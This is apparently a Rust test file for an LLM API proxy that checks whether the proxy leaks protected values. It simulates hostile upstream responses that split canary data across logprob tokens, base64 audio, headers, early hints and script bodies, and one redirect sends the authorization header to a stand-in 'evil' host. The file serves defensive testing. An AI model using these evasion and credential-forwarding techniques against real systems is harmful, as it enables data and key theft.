//! Answers of the server that come whole (HR).
#![expect(clippy::indexing_slicing, reason = "tests")]

use serde_json::json;
use sluice_tests::canary::CANARIES;
use sluice_tests::evasion::Evasion;
use sluice_tests::openai::{Api, MODEL, chunk};

use crate::attempt::Attempt;
use crate::streams::flat;

/// What spells the protected values.
const TEXT: &str = "mail zq7x.k1@leak.example.com or 900-55-0001";
/// More than a broker reads before it releases.
const HUGE: usize = 1 << 30;
const DEEP: usize = 100_000;

/// The attempts of a case.
pub(crate) fn attempts(case: &Evasion) -> Vec<Attempt> {
    match case.id.as_str() {
        "HR-07" => vec![logprobs(), logprobs_streamed()],
        "HR-09" => vec![choices()],
        "HR-10" => vec![audio(&case.snippet)],
        "HR-13" => case.snippet.split(" with ").next().unwrap_or_default().split(", ").map(header).collect(),
        "HR-14" => vec![redirect()],
        "HR-16" => case.snippet.split(" for ").next().unwrap_or_default().split(" or ").map(media).collect(),
        "HR-18" => vec![huge(), deep()],
        "HR-21" => vec![interim()],
        "HR-22" => vec![cut()],
        _ => bodies(case),
    }
}

fn ask(what: &str, api: Api) -> Attempt {
    Attempt::post(what, api, api.question("\"Hello.\""))
}

fn ask_streamed(what: &str, api: Api) -> Attempt {
    Attempt::post(what, api, api.streamed("\"Hello.\""))
}

/// The body of the case as it stands, and its text in both APIs, whole and streamed.
fn bodies(case: &Evasion) -> Vec<Attempt> {
    let text = case.snippet.split("\"content\":").nth(1).and_then(|rest| rest.split('}').next()).unwrap_or("\"\"");
    let text = text.to_owned();
    let stands = case.snippet.clone();
    let mut attempts = vec![ask("as it stands", Api::Chat).script(move |_, peer| peer.json(&stands))];
    for api in Api::BOTH {
        let answer = api.answer(&text);
        attempts.push(ask(&format!("{api:?}"), api).script(move |_, peer| peer.json(&answer)));
        // The escapes stay escapes.
        let plain: String = serde_json::from_str(&text).unwrap_or_default();
        let events: Vec<String> =
            api.events(&[&plain]).iter().map(|event| event.replace(&plain, text.trim_matches('"'))).collect();
        attempts.push(ask_streamed(&format!("{api:?}, streamed"), api).streaming(&events));
    }
    attempts
}

/// Tokens of a few characters, with their bytes.
fn tokens() -> Vec<serde_json::Value> {
    let characters: Vec<char> = TEXT.chars().collect();
    let token = |part: &[char]| {
        let text: String = part.iter().collect();
        json!({ "token": text, "bytes": text.as_bytes(), "logprob": -0.1,
                "top_logprobs": [{ "token": text, "bytes": text.as_bytes(), "logprob": -0.1 }] })
    };
    characters.chunks(3).map(token).collect()
}

fn logprobs() -> Attempt {
    let mut answer: serde_json::Value =
        serde_json::from_str(&Api::Chat.answer(&json!(TEXT).to_string())).unwrap_or_default();
    answer["choices"][0]["logprobs"] = json!({ "content": tokens() });
    ask("whole", Api::Chat).script(move |_, peer| peer.json(&answer.to_string()))
}

fn logprobs_streamed() -> Attempt {
    let event = |token: &serde_json::Value| {
        let choice = json!({ "index": 0, "delta": { "content": token["token"] }, "logprobs": { "content": [token] },
                             "finish_reason": null });
        let chunk = json!({ "id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": MODEL,
                            "choices": [choice] });
        format!("data: {chunk}\n\n")
    };
    let mut events: Vec<String> = tokens().iter().map(event).collect();
    events.push(chunk(0, &json!({}), Some("stop")));
    events.push("data: [DONE]\n\n".to_owned());
    ask_streamed("streamed", Api::Chat).streaming(&events)
}

/// Two answers in one stream, a few characters of each in turn.
fn choices() -> Attempt {
    let characters: Vec<char> = TEXT.chars().collect();
    let mut events = Vec::new();
    for part in characters.chunks(4) {
        let text: String = part.iter().collect();
        events.extend([0, 1].map(|choice| chunk(choice, &json!({ "content": text }), None)));
    }
    events.extend([0, 1].map(|choice| chunk(choice, &json!({}), Some("stop"))));
    events.push("data: [DONE]\n\n".to_owned());
    ask_streamed("in turn", Api::Chat).streaming(&events)
}

fn audio(snippet: &str) -> Attempt {
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(TEXT);
    let audio = snippet.replace("<b64>", &encoded);
    let audio = audio.strip_prefix('{').and_then(|rest| rest.strip_suffix('}')).unwrap_or_default().to_owned();
    let answer = Api::Chat.answer("null").replacen("\"content\":null", &format!("\"content\":null,{audio}"), 1);
    ask("whole", Api::Chat).script(move |_, peer| peer.json(&answer))
}

fn header(name: &str) -> Attempt {
    let value = format!("{} {}", CANARIES[0], CANARIES[3]);
    let body = Api::Chat.answer("\"Fine.\"");
    let name = name.to_owned();
    let text = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n{name}: {value}\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    ask(&name, Api::Chat).script(move |_, peer| {
        peer.send(text.as_bytes());
    })
}

fn redirect() -> Attempt {
    ask("whole", Api::Chat)
        .script(|told, peer| {
            let shown = told.header("authorization").unwrap_or_default().replace(' ', "+");
            let head = format!("HTTP/1.1 302 Found\r\nlocation: https://evil/?k={shown}\r\ncontent-length: 0\r\n\r\n");
            peer.send(head.as_bytes());
        })
        .check(|_, seen| {
            let text = String::from_utf8_lossy(&seen.heard).to_lowercase();
            let shows = text.contains("location") || text.contains(sluice_tests::api::KEY);
            shows.then(|| format!("LEAK: the address was passed on: {text}"))
        })
}

fn media(media: &str) -> Attempt {
    let media = media.to_owned();
    ask(&media.clone(), Api::Chat).script(move |_, peer| {
        peer.answer("200 OK", &media, format!("<script>{TEXT}</script>").as_bytes());
    })
}

fn huge() -> Attempt {
    flat(ask("a gigabyte", Api::Chat).script(|_, peer| {
        let head = format!("HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {HUGE}\r\n\r\n");
        let piece = [b'x'; 1 << 16];
        let mut goes_on = peer.send(head.as_bytes()) && peer.send(b"{\"a\":\"");
        let mut sent = 6;
        while goes_on && sent < HUGE {
            goes_on = peer.send(&piece);
            sent += piece.len();
        }
    }))
}

fn deep() -> Attempt {
    let body = format!("{}{}", "[".repeat(DEEP), "]".repeat(DEEP));
    ask("deep", Api::Chat).script(move |_, peer| peer.json(&body))
}

fn interim() -> Attempt {
    let body = Api::Chat.answer("\"Fine.\"");
    let answered = Some((Api::Chat, body.clone().into_bytes()));
    let attempt = ask("early hints and many of 100", Api::Chat).script(move |_, peer| {
        let early = "HTTP/1.1 103 Early Hints\r\nlink: </zq7x.k1@leak.example.com>; rel=preload\r\n\r\n";
        peer.send([early, &"HTTP/1.1 100 Continue\r\n\r\n".repeat(5)].concat().as_bytes());
        peer.json(&body);
    });
    let early = |_: &crate::world::World, seen: &crate::attempt::Seen| {
        let passed = seen.responses.iter().any(|response| !response.interim.is_empty());
        passed.then(|| "LEAK: an interim response was passed on".to_owned())
    };
    Attempt { answered, ..attempt }.check(early)
}

fn cut() -> Attempt {
    ask("half of a body", Api::Chat).script(|_, peer| {
        let body = Api::Chat.answer(&format!("\"{}\"", "x".repeat(600)));
        let half: String = body.chars().take(500).collect();
        let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n";
        peer.send([head, &half].concat().as_bytes());
        peer.close();
    })
}
